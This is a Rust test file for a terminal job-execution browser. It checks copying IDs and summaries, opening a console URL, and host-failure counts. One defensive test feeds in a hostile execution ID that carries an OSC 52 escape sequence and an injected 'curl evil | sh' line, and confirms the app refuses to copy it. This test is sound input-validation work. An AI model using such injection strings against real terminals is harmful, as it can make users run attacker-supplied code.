//! Handing over: `y`, `Y` and `o`.

use super::*;

#[test]
fn y_copies_the_id_capital_y_a_summary_and_o_opens_the_console() {
    let mut app = mixed();
    select_id(&mut app, &id_text(0));
    assert_eq!(ch(&mut app, 'y').actions, [Action::Copy(id_text(0))]);
    steps_arrive(&mut app, 0, vec![failed_step()]);
    assert_eq!(
        ch(&mut app, 'Y').actions,
        [Action::Copy(
            "EX0000 | job0 | Failed | failed step: restart (exit code 1)".into()
        )]
    );
    // With the step's hosts loaded, the summary counts the failed ones.
    press(&mut app, KeyCode::Enter);
    ch(&mut app, '4');
    let out = press(&mut app, KeyCode::Enter);
    assert_eq!(
        out.actions,
        [engine(Command::FetchInstances {
            id: id(0),
            step_id: "301".into(),
            page: first_page(),
        })]
    );
    let hosts: Vec<crate::coc::Instance> = ["Succeed", "Failed", "Failed"]
        .iter()
        .map(|s| serde_json::from_value(serde_json::json!({"status": s})).unwrap())
        .collect();
    hosts_arrive(&mut app, hosts);
    let view = app.hosts().expect("the hosts view");
    assert_eq!(view.counts_line(), "2 Failed, 1 Succeed");
    assert_eq!(
        ch(&mut app, 'Y').actions,
        [Action::Copy(
            "EX0000 | job0 | Failed | failed step: restart (exit code 1) | 2 of 3 hosts failed"
                .into()
        )]
    );

    assert!(ch(&mut app, 'o').actions.is_empty());
    assert!(matches!(app.prompt(), Some(Prompt::Notice { .. })));
    press(&mut app, KeyCode::Esc);
    let mut app = app.with_settings(UiSettings {
        read_only: None,
        console_url: Some("https://console.example/coc/{execution_id}/detail".into()),
        ..UiSettings::default()
    });
    assert_eq!(
        ch(&mut app, 'o').actions,
        [Action::Open(
            "https://console.example/coc/EX0000/detail".into()
        )]
    );
}

fn copied(reaction: &Reaction) -> Vec<&str> {
    reaction
        .actions
        .iter()
        .filter_map(|a| match a {
            Action::Copy(text) => Some(text.as_str()),
            _ => None,
        })
        .collect()
}

/// #16 item 11: `y` and `Y` copy only a valid execution ID. One from the list API is
/// server text: with an ESC or a line break it would run a command once pasted into
/// a shell (OSC 52 carries it as it is).
#[test]
fn y_copies_only_a_valid_id_and_says_why_not() {
    let mut app = mixed();
    let hostile = Ticket::empty("EX1\u{1b}]52;c;ZWNobyBoaQ==\u{7}\ncurl evil | sh\n");
    let huge = Ticket::empty(format!("EX{}", "9".repeat(10_000)));
    browse_page(&mut app, vec![hostile, huge]);
    for _ in 0..2 {
        for key in ['y', 'Y'] {
            let out = ch(&mut app, key);
            assert_eq!(copied(&out), Vec::<&str>::new(), "{key} copied");
            let Some(Prompt::Notice { title, lines }) = app.prompt() else {
                panic!("{key}: a notice says why: {:?}", app.prompt());
            };
            assert_eq!(title, "not copied");
            let said = lines.join("\n");
            assert!(!said.contains(['\u{1b}', '\n', '\u{7}']), "{said:?}");
            assert!(said.len() < 200, "{} bytes", said.len());
            press(&mut app, KeyCode::Esc);
        }
        ch(&mut app, 'j');
    }
}

/// #16 item 11: `Y` in the browse view sums up the row shown (it said "- | unknown"
/// for a row shown as Failed).
#[test]
fn capital_y_in_the_browse_view_sums_up_the_row_shown() {
    let mut app = mixed();
    browse_page(
        &mut app,
        vec![ticket(42, Status::Failed, "nightly-backup", 600)],
    );
    assert_eq!(
        copied(&ch(&mut app, 'Y')),
        ["EX0042 | nightly-backup | Failed"]
    );
}

/// #16 item 11: the hosts of the failed step are counted once they have loaded, never
/// "0 of 0 hosts failed" while their first page is on its way.
#[test]
fn capital_y_counts_hosts_only_once_they_have_loaded() {
    let mut app = mixed();
    select_id(&mut app, &id_text(0));
    steps_arrive(&mut app, 0, vec![failed_step()]);
    press(&mut app, KeyCode::Enter);
    ch(&mut app, '4');
    press(&mut app, KeyCode::Enter);
    assert!(app.hosts().is_some_and(|h| h.is_loading()));
    assert_eq!(
        copied(&ch(&mut app, 'Y')),
        ["EX0000 | job0 | Failed | failed step: restart (exit code 1)"]
    );
}
